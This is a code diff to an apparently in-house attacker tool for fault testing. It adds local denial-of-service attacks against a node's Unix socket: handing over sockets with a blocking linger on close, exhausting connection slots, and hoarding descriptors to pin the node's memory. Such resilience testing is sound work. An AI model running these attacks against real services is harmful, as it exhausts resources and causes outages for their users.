@@ -10,6 +10,7 @@ import argparse
 import contextlib
 import itertools
 import json
+import os
 import re
 import resource
 import selectors
@@ -32,6 +33,8 @@ TRIES_PER_S = 2_000
 SPARE = 64
 # Of the attack with few connections that are never done.
 SLOW = 200
+# How long the close of a socket blocks, in seconds.
+LINGER_S = 25
 # A step of the loop, and between two bytes of the attack that says one after the other.
 STEP_S, BYTE_S = 0.05, 1.0
 
@@ -70,6 +73,8 @@ class Report:
         self.ended = 0
         self.joined = 0
         self.heard = 0
+        # Bytes of the node's memory that the attacker has kept.
+        self.kept = 0
 
 
 def crc32c(data: bytes) -> int:
@@ -267,14 +272,19 @@ def guess(targets: list[Address], report: Report, stop: threading.Event) -> None
             report.joined += 1
 
 
-def take_no_descriptors(path: str, ref: str, report: Report, stop: threading.Event) -> None:
-    """Attaches to a node of this host, asks for memory again and again, and reads no answer."""
+def local_version(path: str) -> int:
+    """Which version a node speaks to processes of its host."""
     with socket.socket(socket.AF_UNIX) as probe:
         probe.connect(path)
         probe.sendall(local_frame(b"\0\0"))
         found = re.search(rb"speaks version (\d+)", probe.recv(4096))
     assert found is not None
-    hello = local_frame(b"\0" + varint(int(found[1])))
+    return int(found[1])
+
+
+def take_no_descriptors(path: str, ref: str, report: Report, stop: threading.Event) -> None:
+    """Attaches to a node of this host, asks for memory again and again, and reads no answer."""
+    hello = local_frame(b"\0" + varint(local_version(path)))
     name = ref.encode()
     streams: list[socket.socket] = []
     numbers = itertools.count(1)
@@ -303,26 +313,133 @@ def take_no_descriptors(path: str, ref: str, report: Report, stop: threading.Eve
         stream.close()
 
 
+def send_sockets(path: str, report: Report, stop: threading.Event) -> None:
+    """Sends a node sockets whose close blocks, and says nothing else."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        unread = []
+        while not stop.wait(STEP_S):
+            if len(unread) >= SPARE:
+                continue
+            report.tries += 1
+            with socket.create_connection(listener.getsockname()) as sent, socket.socket(socket.AF_UNIX) as stream:
+                unread.append(listener.accept()[0])
+                sent.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    while True:
+                        sent.send(bytes(65536))
+                sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER_S))
+                stream.connect(path)
+                try:
+                    socket.send_fds(stream, [b"\0"], [sent.fileno()])
+                    report.connected += 1
+                except PermissionError:
+                    report.ended += 1
+                    sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))
+
+
+def confined_hello(path: str, capability: str) -> bytes:
+    """What a client with a capability says first."""
+    text = capability.encode()
+    return local_frame(b"\x0a" + varint(local_version(path)) + varint(len(text)) + text)
+
+
+def take_places(path: str, capability: str, report: Report, stop: threading.Event) -> None:
+    """Attaches as often as the node lets this process."""
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    hello = confined_hello(path, capability)
+    attached: list[socket.socket] = []
+    asking: list[socket.socket] = []
+    while not stop.wait(STEP_S):
+        for _ in range(int(TRIES_PER_S * STEP_S)):
+            if report.tries >= TRIES_MAX or len(attached) + len(asking) >= most - SPARE:
+                break
+            stream = socket.socket(socket.AF_UNIX)
+            stream.setblocking(False)
+            try:
+                stream.connect(path)
+                stream.send(hello)
+            except OSError:
+                stream.close()
+                break
+            report.tries += 1
+            asking.append(stream)
+        for stream in list(asking):
+            try:
+                said = stream.recv(4096)
+            except BlockingIOError:
+                continue
+            except OSError:
+                said = b""
+            asking.remove(stream)
+            # A welcome is the first of the messages.
+            if said[4:5] == b"\0":
+                attached.append(stream)
+                report.connected += 1
+            else:
+                report.ended += 1
+                stream.close()
+    for stream in attached + asking:
+        stream.close()
+
+
+def keep_copies(path: str, ref: str, capability: str, report: Report, stop: threading.Event) -> None:
+    """Gets an object again and again, each time as a new client, and keeps the descriptors of its copies."""
+    hello, name = confined_hello(path, capability), ref.encode()
+    get = local_frame(b"\1\1\6\1" + varint(len(name)) + name + b"\0")
+    kept: list[int] = []
+    while not stop.wait(STEP_S):
+        if len(kept) >= SLOW:
+            continue
+        report.tries += 1
+        with socket.socket(socket.AF_UNIX) as stream:
+            stream.settimeout(5)
+            stream.connect(path)
+            stream.sendall(hello + get)
+            with contextlib.suppress(OSError):
+                while not (got := socket.recv_fds(stream, 4096, 8))[1] and got[0]:
+                    pass
+                kept += got[1]
+    report.connected = len(kept)
+    until = time.monotonic() + 5
+    while time.monotonic() < until:
+        report.kept = sum(os.fstat(descriptor).st_blocks * 512 for descriptor in kept)
+        if not report.kept:
+            break
+        time.sleep(STEP_S)
+
+
 def local_frame(body: bytes) -> bytes:
     """A frame of the Unix socket."""
     return struct.pack("<I", len(body)) + body
 
 
-ATTACKS = ("silent", "half", "slow", "replay", "reflect", "lengths", "token", "local")
+# Those of a program of the host.
+LOCAL = ("local", "sockets", "places", "copies")
+ATTACKS = ("silent", "half", "slow", "replay", "reflect", "lengths", "token", *LOCAL)
 
 
 def main() -> None:
     """Attacks."""
     parser = argparse.ArgumentParser(prog="python -m faults.attacker")
     parser.add_argument("attack", choices=ATTACKS)
-    parser.add_argument("targets", nargs="+", help="addresses of nodes; for `local` a socket and the name of an object")
+    parser.add_argument(
+        "targets",
+        nargs="+",
+        help="addresses of nodes; for those of LOCAL a socket, the name of an object, a capability",
+    )
     parser.add_argument("--listen", default="127.0.0.1", help="where `replay` waits for a node that it records")
     options = parser.parse_args()
     report, stop = Report(), threading.Event()
     run: Callable[[threading.Event], None]
-    if options.attack == "local":
-        path, ref = options.targets
-        run = lambda stop: take_no_descriptors(path, ref, report, stop)  # noqa: E731
+    if options.attack in LOCAL:
+        path, ref, capability = options.targets
+        run = {
+            "local": lambda stop: take_no_descriptors(path, ref, report, stop),
+            "sockets": lambda stop: send_sockets(path, report, stop),
+            "places": lambda stop: take_places(path, capability, report, stop),
+            "copies": lambda stop: keep_copies(path, ref, capability, report, stop),
+        }[options.attack]
     else:
         targets = [(host, int(port)) for host, _, port in (target.rpartition(":") for target in options.targets)]
         if options.attack == "token":
@@ -338,7 +455,7 @@ def main() -> None:
     thread = threading.Thread(target=run, args=(stop,))
     thread.start()
     # Each target has met it.
-    least = 1 if options.attack == "local" else 2 * len(options.targets)
+    least = 1 if options.attack in LOCAL else 2 * len(options.targets)
     while thread.is_alive() and report.tries < least:
         time.sleep(STEP_S)
     say({"attack": options.attack})
